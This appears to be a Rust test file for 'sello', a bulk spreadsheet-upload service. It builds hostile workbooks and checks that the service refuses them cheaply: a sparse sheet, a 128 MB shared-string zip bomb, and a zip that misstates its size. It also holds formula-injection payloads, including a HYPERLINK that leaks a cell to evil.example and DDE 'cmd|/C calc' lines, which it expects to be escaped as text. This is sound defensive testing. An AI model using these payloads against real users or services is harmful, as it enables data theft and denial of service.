//! Spreadsheets built to hurt: a workbook with one cell at `XFD1048576`,
//! a shared string that unzips to 128 MB, headers and cells written as
//! formulas. Each is refused (or written back as text) quickly, in little
//! memory, with a Spanish message naming the limit; the service goes on
//! answering while they are read.

use std::io::{Read as _, Write as _};
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use sello::accounts::Role;

use crate::bulk::{HEADERS, rows};
use crate::http::{Browser, Service, service_config};

/// What `sello` printed, how it ended, how long it took and the most
/// memory it held.
struct Run {
    code: Option<i32>,
    stderr: String,
    elapsed: Duration,
    peak_kb: u64,
}

/// The high-water mark of a process's resident memory, in kB.
fn peak_kb(pid: u32) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let line = status.lines().find(|l| l.starts_with("VmHWM:"))?;
    line.split_whitespace().nth(1)?.parse().ok()
}

/// Runs `sello` in `dir`, reading its memory high-water mark (VmHWM) every
/// millisecond until it exits. The kernel keeps that mark, so a sample
/// misses only what the process could touch in its last millisecond, a few
/// MB; the samples are what this process alone held, unlike a rusage of
/// all children of a test binary that runs many tests at once.
fn sello_measured(dir: &Path, args: &[&str]) -> Run {
    let started = Instant::now();
    let mut child = Command::new(env!("CARGO_BIN_EXE_sello"))
        .current_dir(dir)
        .args(args)
        .env("SELLO_FORMS_DIR", crate::root().join("forms"))
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("sello runs");
    let mut stderr = child.stderr.take().expect("stderr");
    let reader = std::thread::spawn(move || {
        let mut text = String::new();
        let _ = stderr.read_to_string(&mut text);
        text
    });
    let mut peak = 0;
    let status = loop {
        if let Some(kb) = peak_kb(child.id()) {
            peak = peak.max(kb);
        }
        if let Some(status) = child.try_wait().expect("wait") {
            break status;
        }
        assert!(started.elapsed() < Duration::from_secs(120), "sello never ended");
        std::thread::sleep(Duration::from_millis(1));
    };
    Run {
        code: status.code(),
        stderr: reader.join().expect("stderr"),
        elapsed: started.elapsed(),
        peak_kb: peak,
    }
}

/// What a dry run of a small, good CSV costs: the yardstick for the rest.
fn good_run(dir: &Path) -> Run {
    std::fs::write(
        dir.join("buena.csv"),
        crate::bulk::csv_bytes(&rows(3, &[]), false),
    )
    .expect("csv");
    let run = sello_measured(
        dir,
        &["bulk", "carta-compromiso", "--input", "buena.csv", "--dry-run"],
    );
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert!(run.peak_kb > 0, "the memory of sello was read");
    run
}

/// A hostile file is refused with exit code 2 and `message`, in about the
/// time and memory of a small good file's dry run.
fn assert_refused_cheaply(dir: &Path, file: &str, message: &[&str]) {
    let good = good_run(dir);
    let run = sello_measured(dir, &["bulk", "carta-compromiso", "--input", file, "--dry-run"]);
    assert_eq!(run.code, Some(2), "{file}: {}", run.stderr);
    for part in message {
        assert!(run.stderr.contains(part), "{file}: «{part}» in {}", run.stderr);
    }
    assert!(
        run.peak_kb < good.peak_kb + 64 * 1024,
        "{file}: {} kB at most, against {} kB for a good file",
        run.peak_kb,
        good.peak_kb
    );
    assert!(
        run.elapsed < good.elapsed * 3 + Duration::from_secs(2),
        "{file}: {:?}, against {:?} for a good file",
        run.elapsed,
        good.elapsed
    );
    eprintln!(
        "{file}: refused in {:?} with a peak of {} kB (a good file: {:?}, {} kB)",
        run.elapsed, run.peak_kb, good.elapsed, good.peak_kb
    );
}

fn xml_text(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\t', "&#9;")
        .replace('\r', "&#13;")
}

/// `A`, `B`, … `XFD` for the column `index` (from 0).
fn column_name(index: usize) -> String {
    let mut name = String::new();
    let mut n = index + 1;
    while n > 0 {
        name.insert(0, char::from(b'A' + ((n - 1) % 26) as u8));
        n = (n - 1) / 26;
    }
    name
}

/// A row of inline-string cells, and error cells where a text is `None`.
fn row_xml(row: usize, cells: &[Option<&str>]) -> String {
    let mut xml = format!("<row r=\"{row}\">");
    for (column, cell) in cells.iter().enumerate() {
        let at = format!("{}{row}", column_name(column));
        match cell {
            Some(text) => xml.push_str(&format!(
                "<c r=\"{at}\" t=\"inlineStr\"><is><t xml:space=\"preserve\">{}</t></is></c>",
                xml_text(text)
            )),
            None => xml.push_str(&format!("<c r=\"{at}\" t=\"e\"><v>#N/A</v></c>")),
        }
    }
    xml + "</row>"
}

/// The smallest workbook Excel opens: one sheet of `rows` (XML `<row>`s),
/// and shared strings that `shared` writes, straight into the deflater.
fn minimal_xlsx(path: &Path, rows: &str, shared: impl FnOnce(&mut dyn std::io::Write)) {
    use crate::xlsx_package::{SPREADSHEET_NS, package_parts};
    let sheet = format!(
        "<?xml version=\"1.0\"?><worksheet xmlns=\"{SPREADSHEET_NS}\"><sheetData>{rows}</sheetData></worksheet>"
    );
    let mut parts = package_parts(true).to_vec();
    parts.push(("xl/worksheets/sheet1.xml", sheet));
    let file = std::fs::File::create(path).expect("xlsx");
    let mut zip = zip::ZipWriter::new(std::io::BufWriter::new(file));
    let options =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    for (name, text) in parts {
        zip.start_file(name, options).expect("part");
        zip.write_all(text.as_bytes()).expect("part");
    }
    zip.start_file("xl/sharedStrings.xml", options).expect("part");
    shared(&mut zip);
    zip.finish().expect("zip").flush().expect("flush");
}

fn one_shared_string(text: &str) -> impl FnOnce(&mut dyn std::io::Write) + '_ {
    move |out| {
        write!(
            out,
            "<?xml version=\"1.0\"?><sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" \
             count=\"1\" uniqueCount=\"1\"><si><t>{}</t></si></sst>",
            xml_text(text)
        )
        .expect("strings");
    }
}

/// The header, and one cell at `XFD1048576`, as Excel itself would save
/// them (with the sheet's dimension `A1:XFD1048576`).
fn sparse_xlsx(path: &Path) {
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    for (column, header) in HEADERS.iter().enumerate() {
        sheet.write_string(0, column as u16, *header).expect("cell");
    }
    sheet.write_string(1_048_575, 16_383, "x").expect("the last cell");
    workbook.save(path).expect("xlsx");
}

/// One shared string of 128 MB, deflated to about 130 KB as it is made.
fn bomb_xlsx(path: &Path) {
    let header: Vec<Option<&str>> = HEADERS.iter().map(|h| Some(*h)).collect();
    let rows = row_xml(1, &header) + "<row r=\"2\"><c r=\"A2\" t=\"s\"><v>0</v></c></row>";
    minimal_xlsx(path, &rows, |out| {
        out.write_all(
            b"<?xml version=\"1.0\"?><sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" \
              count=\"1\" uniqueCount=\"1\"><si><t>",
        )
        .expect("strings");
        let chunk = vec![b'A'; 1 << 20];
        for _ in 0..128 {
            out.write_all(&chunk).expect("strings");
        }
        out.write_all(b"</t></si></sst>").expect("strings");
    });
}

#[test]
fn bulk_refuses_a_sheet_with_a_cell_at_xfd1048576_quickly_and_in_little_memory() {
    let dir = tempfile::tempdir().expect("temp");
    sparse_xlsx(&dir.path().join("dispersa.xlsx"));
    assert!(
        std::fs::metadata(dir.path().join("dispersa.xlsx"))
            .expect("file")
            .len()
            < 16 * 1024
    );
    assert_refused_cheaply(
        dir.path(),
        "dispersa.xlsx",
        &[
            "dispersa.xlsx: la planilla declara 16.384 columnas",
            "el máximo es 200",
        ],
    );

    // Without the dimension a sheet may declare, the cell itself is found.
    let header: Vec<Option<&str>> = HEADERS.iter().map(|h| Some(*h)).collect();
    let rows = row_xml(1, &header)
        + "<row r=\"1048576\"><c r=\"XFD1048576\" t=\"inlineStr\"><is><t>x</t></is></c></row>";
    minimal_xlsx(
        &dir.path().join("sin-dimension.xlsx"),
        &rows,
        one_shared_string("x"),
    );
    assert_refused_cheaply(
        dir.path(),
        "sin-dimension.xlsx",
        &["la planilla tiene 16.384 columnas (de A a XFD); el máximo es 200"],
    );
}

#[test]
fn bulk_refuses_a_shared_string_bomb_quickly_and_in_little_memory() {
    let dir = tempfile::tempdir().expect("temp");
    bomb_xlsx(&dir.path().join("bomba.xlsx"));
    let size = std::fs::metadata(dir.path().join("bomba.xlsx"))
        .expect("file")
        .len();
    assert!(size < 512 * 1024, "128 MB deflated to {size} bytes");
    assert_refused_cheaply(
        dir.path(),
        "bomba.xlsx",
        &["xl/sharedStrings.xml se descomprime a 128 MB; el máximo es 64 MB"],
    );
}

/// `zip` with the part `name` declaring it unzips to `size` bytes, in its
/// local header and in the central directory alike.
fn declare_size(zip: &mut [u8], name: &str, size: u32) {
    let mut patched = 0;
    // (signature, where the name's length is, where the name starts, where the size is)
    for (signature, length_at, name_at, size_at) in [(b"PK\x03\x04", 26, 30, 22), (b"PK\x01\x02", 28, 46, 24)]
    {
        let mut at = 0;
        while let Some(found) = zip[at..].windows(4).position(|w| w == signature) {
            let start = at + found;
            let length = u16::from_le_bytes([zip[start + length_at], zip[start + length_at + 1]]) as usize;
            if zip.get(start + name_at..start + name_at + length) == Some(name.as_bytes()) {
                zip[start + size_at..start + size_at + 4].copy_from_slice(&size.to_le_bytes());
                patched += 1;
            }
            at = start + 4;
        }
    }
    assert_eq!(patched, 2, "{name} in the local header and the directory");
}

#[test]
fn bulk_refuses_a_shared_string_bomb_that_declares_a_small_size() {
    let dir = tempfile::tempdir().expect("temp");
    let path = dir.path().join("mentirosa.xlsx");
    bomb_xlsx(&path);
    let mut bytes = std::fs::read(&path).expect("file");
    declare_size(&mut bytes, "xl/sharedStrings.xml", 1 << 20);
    std::fs::write(&path, bytes).expect("file");
    assert_refused_cheaply(
        dir.path(),
        "mentirosa.xlsx",
        &["xl/sharedStrings.xml no se descomprime como declara: el libro está dañado o manipulado"],
    );
}

/// The headers of the carta's columns, then ones written as formulas, each
/// with a spreadsheet error below it.
const FORMULAS: [&str; 7] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Ver\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=fecha_firma()",
];

fn formulas_xlsx(path: &Path) {
    let mut header: Vec<Option<&str>> = HEADERS.iter().map(|h| Some(*h)).collect();
    header.extend(FORMULAS.iter().map(|f| Some(*f)));
    let good = rows(1, &[]).remove(0);
    let mut cells: Vec<Option<&str>> = good.iter().map(|c| Some(c.as_str())).collect();
    cells.extend(FORMULAS.iter().map(|_| None));
    let rows = row_xml(1, &header) + &row_xml(2, &cells);
    minimal_xlsx(path, &rows, one_shared_string("x"));
}

/// Every cell of a CSV Sello wrote is text to a spreadsheet program, and
/// each formula header of the file comes back behind a `'`.
fn assert_opens_as_text(csv: &[u8]) {
    let text = String::from_utf8(csv.to_vec()).expect("UTF-8");
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let mut columns = Vec::new();
    for record in reader.records() {
        let record = record.expect("record");
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "«{cell}» would be read as a formula:\n{text}"
            );
        }
        columns.push(record.get(1).expect("column").to_owned());
    }
    for formula in FORMULAS {
        // The reader trims a header's spaces, tabs and line ends.
        let written = format!("'{}", formula.trim());
        assert!(columns.contains(&written), "{written:?} in {columns:?}");
    }
}

#[test]
fn bulk_errors_csv_of_formula_headers_opens_as_text_and_a_formula_names_no_field() {
    let dir = tempfile::tempdir().expect("temp");
    formulas_xlsx(&dir.path().join("formulas.xlsx"));
    let run = sello_measured(
        dir.path(),
        &[
            "bulk",
            "carta-compromiso",
            "--input",
            "formulas.xlsx",
            "--dry-run",
            "--errors",
            "errores.csv",
        ],
    );
    assert_eq!(run.code, Some(2), "{}", run.stderr);
    assert!(
        run.stderr.contains("«=fecha_firma()»") && run.stderr.contains("ningún campo lee"),
        "the formula header feeds no field: {}",
        run.stderr
    );
    let report = std::fs::read(dir.path().join("errores.csv")).expect("errores.csv");
    assert_opens_as_text(&report);
    let text = String::from_utf8_lossy(&report);
    assert_eq!(
        text.lines().count(),
        1 + FORMULAS.len(),
        "one problem per error cell: {text}"
    );
}

/// A spreadsheet posted to `/lotes` as the page's form posts it.
fn upload(browser: &Browser<'_>, csrf: &str, name: &str, bytes: &[u8], dry_run: bool) -> Request<Body> {
    let boundary = "lote-hostil-3vQe9";
    let mut body = Vec::new();
    let mut fields = vec![("_csrf", csrf), ("formulario", "carta-compromiso")];
    if dry_run {
        fields.push(("solo_validar", "si"));
    }
    for (field, value) in fields {
        body.extend_from_slice(
            format!("--{boundary}\r\nContent-Disposition: form-data; name=\"{field}\"\r\n\r\n{value}\r\n")
                .as_bytes(),
        );
    }
    body.extend_from_slice(
        format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"archivo\"; filename=\"{name}\"\r\n\
             Content-Type: application/octet-stream\r\n\r\n"
        )
        .as_bytes(),
    );
    body.extend_from_slice(bytes);
    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    Request::post("/lotes")
        .header(header::COOKIE, browser.cookie_header())
        .header(
            header::CONTENT_TYPE,
            format!("multipart/form-data; boundary={boundary}"),
        )
        .body(Body::from(body))
        .expect("request")
}

/// Hostile workbooks posted together, more than the service has workers:
/// each is refused with the limit it passes (or told to wait for the
/// office's other one), and `/healthz` answers within a second throughout.
async fn hostile_uploads_are_refused_while_the_service_answers(fixture: &crate::Fixture) {
    let data_dir = tempfile::tempdir().expect("temp");
    let data_path = data_dir.path().display().to_string();
    let service = Service::with_config(fixture, service_config(&[("SELLO_DATA_DIR", &data_path)])).await;
    let (_, password) = service.user("DIF-SLP", "lotes.hostiles", Role::Firmante).await;
    let mut browser = service.browser("lotes.hostiles", &password).await;
    let csrf = browser.csrf_token("/lotes").await;
    let files = tempfile::tempdir().expect("temp");
    sparse_xlsx(&files.path().join("dispersa.xlsx"));
    bomb_xlsx(&files.path().join("bomba.xlsx"));
    let sparse = std::fs::read(files.path().join("dispersa.xlsx")).expect("file");
    let bomb = std::fs::read(files.path().join("bomba.xlsx")).expect("file");

    let done = std::sync::atomic::AtomicBool::new(false);
    let probe = async {
        let mut times = Vec::new();
        while !done.load(std::sync::atomic::Ordering::Relaxed) || times.len() < 20 {
            let started = Instant::now();
            let answer = service.api("GET", "/healthz", None, None).await;
            assert_eq!(answer.text(), "ok");
            times.push(started.elapsed());
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
        times
    };
    let uploads = async {
        let requests = (0..6).map(|i| {
            let (name, bytes) = if i % 2 == 0 {
                ("dispersa.xlsx", &sparse)
            } else {
                ("bomba.xlsx", &bomb)
            };
            let request = upload(&browser, &csrf, name, bytes, true);
            let service = &service;
            async move { (name, service.send(request).await) }
        });
        let answers = futures::future::join_all(requests).await;
        done.store(true, std::sync::atomic::Ordering::Relaxed);
        answers
    };
    let (mut times, answers) = tokio::join!(probe, uploads);
    for (name, answer) in &answers {
        assert_eq!(
            answer.status,
            StatusCode::BAD_REQUEST,
            "{name}: {}",
            answer.text()
        );
        let page = answer.text();
        let limit = if *name == "dispersa.xlsx" {
            "la planilla declara 16.384 columnas (de A a XFD); el máximo es 200"
        } else {
            "xl/sharedStrings.xml se descomprime a 128 MB; el máximo es 64 MB"
        };
        assert!(
            page.contains(limit) || page.contains("Ya hay una planilla en revisión en su oficina"),
            "{name}: {page}"
        );
    }
    times.sort();
    let p99 = times[(times.len() - 1) * 99 / 100];
    assert!(
        p99 < Duration::from_secs(1) && times[times.len() - 1] < Duration::from_secs(2),
        "/healthz while hostile files were read: p99 {p99:?}, max {:?}",
        times[times.len() - 1]
    );

    // The office reads its next spreadsheet: the refused ones hold nothing.
    let good = crate::bulk::csv_bytes(&rows(2, &[]), false);
    let answer = service
        .send(upload(&browser, &csrf, "buena.csv", &good, true))
        .await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.text());

    // While one of its spreadsheets is read, the office's next waits its turn.
    let reading = service
        .state
        .jobs
        .begin_reading("DIF-SLP")
        .expect("nothing being read");
    let answer = service
        .send(upload(&browser, &csrf, "buena.csv", &good, true))
        .await;
    assert_eq!(answer.status, StatusCode::BAD_REQUEST);
    assert!(
        answer
            .text()
            .contains("Ya hay una planilla en revisión en su oficina"),
        "{}",
        answer.text()
    );
    drop(reading);
}
crate::archive_conformance!(hostile_uploads_are_refused_while_the_service_answers);

/// The problems downloaded from the web app are text to Excel too.
async fn bulk_web_errors_csv_of_formula_headers_opens_as_text(fixture: &crate::Fixture) {
    let data_dir = tempfile::tempdir().expect("temp");
    let data_path = data_dir.path().display().to_string();
    let service = Service::with_config(fixture, service_config(&[("SELLO_DATA_DIR", &data_path)])).await;
    let (_, password) = service.user("DIF-SLP", "lotes.formulas", Role::Firmante).await;
    let mut browser = service.browser("lotes.formulas", &password).await;
    let csrf = browser.csrf_token("/lotes").await;
    let files = tempfile::tempdir().expect("temp");
    formulas_xlsx(&files.path().join("formulas.xlsx"));
    let bytes = std::fs::read(files.path().join("formulas.xlsx")).expect("file");
    let started = service
        .send(upload(&browser, &csrf, "formulas.xlsx", &bytes, true))
        .await;
    assert_eq!(started.status, StatusCode::SEE_OTHER, "{}", started.text());
    let job = started.location();
    let page = browser.get(&job).await.text();
    assert!(
        page.contains("«=fecha_firma()»"),
        "the formula feeds no field: {page}"
    );
    let problems = browser.get(&format!("{job}/errores.csv")).await;
    assert_eq!(problems.status, StatusCode::OK);
    assert_opens_as_text(&problems.bytes);
}
crate::archive_conformance!(bulk_web_errors_csv_of_formula_headers_opens_as_text);

/// A row with two problems is one row with problems, not two.
async fn the_lote_page_counts_rows_without_problems_not_problems(fixture: &crate::Fixture) {
    let data_dir = tempfile::tempdir().expect("temp");
    let data_path = data_dir.path().display().to_string();
    let service = Service::with_config(fixture, service_config(&[("SELLO_DATA_DIR", &data_path)])).await;
    let (_, password) = service.user("DIF-SLP", "lotes.cuenta", Role::Firmante).await;
    let mut browser = service.browser("lotes.cuenta", &password).await;
    let csrf = browser.csrf_token("/lotes").await;
    let mut sheet = rows(3, &[2]);
    // Line 3 (the second row): a date that does not exist and a RUN whose
    // check digit is wrong.
    sheet[1][1] = "31/02/2026".to_owned();
    sheet[1][6] = "15.000.035-0".to_owned();
    let bytes = crate::bulk::csv_bytes(&sheet, false);
    let started = service
        .send(upload(&browser, &csrf, "familias.csv", &bytes, true))
        .await;
    assert_eq!(started.status, StatusCode::SEE_OTHER, "{}", started.text());
    let job = started.location();
    // Only checked: its problems are stored as it is received.
    let page = browser.get(&job).await.text();
    assert!(page.contains("2 problema(s)"), "two problems: {page}");
    assert!(page.contains("3 fila(s), 2 sin problemas."), "{page}");
    assert!(page.contains("2 fila(s) sin problemas"), "{page}");
}
crate::archive_conformance!(the_lote_page_counts_rows_without_problems_not_problems);
